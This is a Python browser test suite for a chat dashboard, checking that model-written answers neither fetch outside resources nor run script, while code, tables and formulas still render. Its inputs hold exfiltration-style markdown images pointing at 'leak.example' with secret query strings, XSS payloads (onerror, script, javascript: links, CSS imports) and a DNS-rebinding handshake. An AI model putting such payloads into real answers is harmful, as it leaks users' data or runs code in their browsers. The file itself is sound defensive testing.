"""Whatever a model writes: nothing is fetched, nothing is run, code and formulas stay right."""

from __future__ import annotations

from http.client import HTTPConnection

import pytest
from playwright.sync_api import Browser, Page, expect

from glm_backend.api.security import CONTENT_SECURITY_POLICY
from tests.browser.chat_page import ChatPage
from tests.browser.dashboard import Dashboard

# open_page fails a test that asked any other host for anything.


def _script_has_not_run(page: Page) -> bool:
    return page.evaluate("window.owned === undefined") is True


def test_images_become_links_and_html_stays_text(chat: ChatPage) -> None:
    chat.ask(
        "![pixel](http://leak.example/a.png?q=secret) "
        "![](http://leak.example/b.png) "
        "<img src=http://leak.example/c.png onerror='window.owned=1'> "
        "<script>window.owned=1</script> "
        "<iframe src='http://leak.example/d'></iframe> "
        "[run](javascript:window.owned=1) "
        "<style>@import url(http://leak.example/e.css)</style>"
    ).wait_for_end()
    expect(chat.answer.locator("img, iframe, script, style")).to_have_count(0)
    expect(chat.answer.get_by_role("link", name="pixel")).to_have_attribute(
        "href", "http://leak.example/a.png?q=secret"
    )
    expect(chat.answer).to_contain_text("<script>window.owned=1</script>")
    expect(chat.answer.locator("[href^='javascript']")).to_have_count(0)
    assert _script_has_not_run(chat.page)


def test_the_policy_stops_an_image_that_gets_through(
    chromium: Browser, dashboard: Dashboard
) -> None:
    """The second layer by itself: a picture put into the page by hand is not fetched."""
    page = chromium.new_page()
    page.goto(dashboard.url)
    blocked = page.evaluate(
        """() => new Promise((resolve) => {
             document.addEventListener("securitypolicyviolation", (e) => resolve(e.blockedURI));
             const image = document.createElement("img");
             image.src = "http://leak.example/by-hand.png";
             document.body.append(image);
           })"""
    )
    assert blocked == "http://leak.example/by-hand.png"
    page.close()


def test_streamlits_own_marks_stay_the_text_that_they_are(chat: ChatPage) -> None:
    chat.ask("use :material/delete: or :red[red] or :tada: and note:this at 12:30").wait_for_end()
    shown = chat.answer.inner_text().replace("\N{WORD JOINER}", "")
    assert ":material/delete:" in shown
    assert ":red[red]" in shown
    assert ":tada:" in shown
    assert "note:this at 12:30" in shown


def test_code_tables_and_formulas_are_drawn(chat: ChatPage) -> None:
    chat.ask(
        "```python\nprint('![x](y) $5 :tada:')\n```\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "\\(e^{i\\pi}\\) and\n\n\\[\n\\int_0^1 x\\,dx\n\\]\n\nfor $5 or $10"
    ).wait_for_end()
    expect(chat.answer.locator("pre")).to_contain_text("print('![x](y) $5 :tada:')")
    expect(chat.answer.locator("table td").first).to_have_text("1")
    expect(chat.answer.locator(".katex").first).to_be_visible()
    expect(chat.answer.locator(".katex-display")).to_have_count(1)
    expect(chat.answer).to_contain_text("for $5 or $10")


def test_unusual_characters_are_kept_and_shown(chat: ChatPage) -> None:
    chat.ask("مرحبا 👩‍👩‍👧 你好 \x07 \u202e").wait_for_end()
    expect(chat.answer).to_contain_text("مرحبا")
    expect(chat.answer).to_contain_text("👩‍👩‍👧")
    expect(chat.answer).to_contain_text("你好")


def test_a_title_is_not_markdown(chat: ChatPage) -> None:
    chat.ask("![t](http://leak.example/t.png) **bold** :red[x]").wait_for_end()
    heading = chat.page.get_by_role("heading").first
    expect(heading).to_contain_text("![t](http://leak.example/t.png) **bold**")
    expect(chat.in_list().first).to_contain_text("**bold**")


@pytest.mark.parametrize(
    ("host", "status"), [("127.0.0.1", 101), ("localhost", 101), ("rebound.example", 403)]
)
def test_a_page_under_a_foreign_name_cannot_come_in(
    dashboard: Dashboard, host: str, status: int
) -> None:
    """A page elsewhere may point a name of its own at this machine (DNS rebinding)."""
    connection = HTTPConnection("127.0.0.1", dashboard.port, timeout=10)
    handshake = {
        "Host": f"{host}:{dashboard.port}",
        "Connection": "Upgrade",
        "Upgrade": "websocket",
        "Sec-WebSocket-Version": "13",
        "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA==",
    }
    connection.request("GET", "/_stcore/stream", headers=handshake)
    assert connection.getresponse().status == status
    connection.close()


@pytest.mark.parametrize("path", ["/", "/chat", "/assets/dashboard.js", "/_stcore/health"])
def test_every_answer_carries_the_policy(dashboard: Dashboard, path: str) -> None:
    connection = HTTPConnection("127.0.0.1", dashboard.port, timeout=10)
    connection.request("GET", path)
    policy = connection.getresponse().getheader("content-security-policy")
    assert policy == CONTENT_SECURITY_POLICY
    connection.close()
